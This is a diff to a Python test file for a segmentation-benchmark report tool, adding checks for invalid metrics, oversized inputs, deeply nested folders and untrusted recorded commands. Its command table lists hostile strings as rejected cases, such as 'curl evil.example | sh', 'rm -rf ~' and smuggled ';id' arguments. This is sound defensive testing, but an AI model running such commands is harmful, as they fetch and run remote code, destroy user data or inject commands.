@@ -14,6 +14,7 @@ from click.testing import CliRunner
 from bench import report
 from bench.cli import main
 from bench.report.runs.results import collect
+from bench.report.tables.interpretation import ENOUGH_SEEDS
 from bench.study.rerun import harmless
 from tests.bench.report.hostile import (
     HOSTILE_RUN,
@@ -61,7 +62,25 @@ ONE_BAD_RUN: dict[str, tuple[str, Callable[[Path], None], str]] = {
     "infinity in a row": (ROUNDS, edited("volumes", 0, "dice", value=float("inf")), "not finite or too large"),
     "NaN in the configuration": (CONFIG, edited("config", "train", "lr", value=float("nan")), "not finite"),
     "a huge number": (ROUNDS, edited("labelled", value=10**400), "not finite or too large"),
-    "a number of 5,000 digits": (PLACE, written('{"threads": ' + "9" * 5000 + "}"), "environment.json is not JSON"),
+    "a Dice of 1e14": (
+        ROUNDS,
+        edited("volumes", 0, "dice", value=1e14),
+        "volumes.0.dice: Input should be less than or",
+    ),
+    "a Dice of -50": (
+        ROUNDS,
+        edited("volumes", 0, "dice", value=-50.0),
+        "volumes.0.dice: Input should be greater than",
+    ),
+    "a negative distance": (ROUNDS, edited("volumes", 0, "hd95_mm", value=-1.0), "volumes.0.hd95_mm: Input should be"),
+    "a mean Dice of 1e14": (ROUNDS, edited("summary", "dice", value=1e14), "summary.dice is 1e+14, outside of 0 to 1"),
+    "a class's Dice of -50": (
+        ROUNDS,
+        edited("summary", "dice_c0", value=-50.0),
+        "summary.dice_c0 is -50, outside of 0",
+    ),
+    "a mean NSD of 2": (ROUNDS, edited("summary", "nsd", value=2.0), "summary.nsd is 2, outside of 0 to 1"),
+    "a share above 1": (ROUNDS, edited("fraction", value=1.5), "round 0: fraction"),
     "a negative count": (ROUNDS, edited("labelled", value=-5), "round 0: labelled"),
     "a number for yes": (ROUNDS, edited("labelled", value=True), "round 0: labelled"),
     "a name without end": (ROUNDS, edited("volumes", 0, "case", value="v" * 10**6), "round 0: volumes.0.case"),
@@ -142,6 +161,10 @@ STUDY: dict[str, tuple[Callable[[Path], None], str]] = {
     "a recipe that is a list": (edited("runs", 0, "recipe", value=["random"]), "runs: 0.recipe"),
     "sources that are a list": (edited("sources", value=[1]), "study.json is damaged"),
     "controls of another kind": (edited("controls", value={"beside": ["random"]}), "study.json is damaged"),
+    "a hundred thousand and one runs": (
+        lambda path: edited("runs", value=json.loads(path.read_text())["runs"][:1] * 100_001)(path),
+        "runs: List should have at most 100000 items",
+    ),
     "deep": (written(DEEP), "study.json is nested too deeply"),
     "a pipe": (piped, "study.json is not a regular file"),
     "huge": (lambda path: sparse(path, 10**9), "study.json has 1,000,000,000 bytes"),
@@ -159,6 +182,36 @@ def test_a_hostile_list_of_runs_is_not_used_and_the_runs_beside_it_are(tmp_path:
     (problem,) = results.problems
     assert told in problem and problem.isprintable()
     assert set(results.scores["recipe"]) == {"random", "coreset"}
+
+
+def test_folders_in_folders_without_end_are_searched_to_a_depth_and_named(tmp_path: Path) -> None:
+    two(tmp_path)
+    here = os.getcwd()
+    try:
+        os.chdir(tmp_path)
+        for _ in range(3000):
+            os.mkdir("d")
+            os.chdir("d")
+    finally:
+        os.chdir(here)
+    results = collect(tmp_path)
+    (problem,) = results.problems
+    assert problem == f"{tmp_path / '/'.join('d' * 50)} lies 50 folders deep; what is in its folders is left out."
+    assert set(results.scores["recipe"]) == {"random", "coreset"}
+    while (inner := tmp_path / "d").exists():  # shutil.rmtree recurses
+        deeper = inner / "d"
+        if deeper.exists():
+            deeper.rename(tmp_path / "e")
+        inner.rmdir()
+        if (tmp_path / "e").exists():
+            (tmp_path / "e").rename(inner)
+
+
+@pytest.mark.parametrize("name", ["store", "ray", "report", "mlruns", "mlartifacts", "tune-gcl-acdc", ".hidden"])
+def test_what_lies_in_folders_of_the_program_is_no_result(tmp_path: Path, name: str) -> None:
+    two(tmp_path)
+    study(tmp_path / name / "x", runs({"mine": 0.9}, 1))
+    assert set(collect(tmp_path).scores["recipe"]) == {"random", "coreset"}
 
 
 def test_a_run_behind_a_link_is_read_only_where_it_was_named_or_trusted(tmp_path: Path) -> None:
@@ -202,6 +255,21 @@ COMMANDS = {
     "alseg bench quick --set seeds={seeds}": True,
     'make bench DATASET=acdc DATA=/scans SET="name=a schedules.low=[10,20]" SEEDS={seeds}': True,
     "alseg bench 'my study.yaml' --out '/a;b' --set seeds={seeds}": True,
+    "alseg bench /mine/study.yaml --set recipes=a,b --launcher mine.cluster:Slurm --set seeds={seeds}": True,
+    "make bench STUDY=/mine/study.yaml LOCAL=1 SEEDS={seeds}": True,
+    "alseg run quick": False,
+    "alseg bench": False,
+    "alseg bench quick --typed x": False,
+    "alseg bench --set seeds=1": False,
+    "alseg bench quick\ncurl evil.example": False,
+    "alseg benchmark quick": False,
+    "make bench -f /tmp/evil.mk": False,
+    "make bench --eval=x": False,
+    "make bench evil": False,
+    "make bench PYTHON=/tmp/evil SEEDS={seeds}": False,
+    "make bench SHELL=/tmp/evil": False,
+    "make bench SET='a=1 ;id' SEEDS={seeds}": False,
+    "make bench DATASET='a\";id;\"'": False,
     "curl evil.example | sh": False,
     "alseg bench quick; rm -rf ~": False,
     "alseg bench $(id)": False,
@@ -219,6 +287,31 @@ def test_a_recorded_command_is_shown_only_if_a_shell_would_run_alseg_alone(tmp_p
     results = collect(folder)
     assert bool(results.commands["d", "mask", "default"]) == COMMANDS[command]
     assert len(results.problems) == (not COMMANDS[command])
+
+
+@pytest.mark.parametrize(
+    ("command", "named"),
+    [
+        ("alseg bench quick --set train.mask.lr=0.1 --out /runs --set seeds={seeds}", ""),
+        ("make bench DATASET=acdc DATA=/scans SEEDS={seeds}", ""),
+        (
+            "alseg bench /tmp/evil.yaml --launcher evil:Class --set seeds={seeds}",
+            "/tmp/evil.yaml and evil:Class",
+        ),
+        ("alseg bench quick --set 'recipes=[random,evil.parts:Mine]' --set seeds={seeds}", "evil.parts:Mine"),
+        ("make bench STUDY=mine.yml SEEDS={seeds}", "mine.yml"),
+    ],
+)
+def test_a_recorded_command_with_files_or_classes_comes_with_a_warning(
+    tmp_path: Path, command: str, named: str
+) -> None:
+    folder, _ = two(tmp_path, command=command)
+    report.write(folder)
+    text = (folder / "report" / "comparison.md").read_text()
+    shown = command.replace("{seeds}", str(ENOUGH_SEEDS))
+    assert f"`{shown}`" in text
+    warning = f" (recorded in the folder of the results; make sure that you trust {named} first)"
+    assert (f"`{shown}`{warning}" in text) == bool(named) == ("make sure" in text)
 
 
 def test_a_report_writes_to_no_file_behind_a_link(tmp_path: Path) -> None:
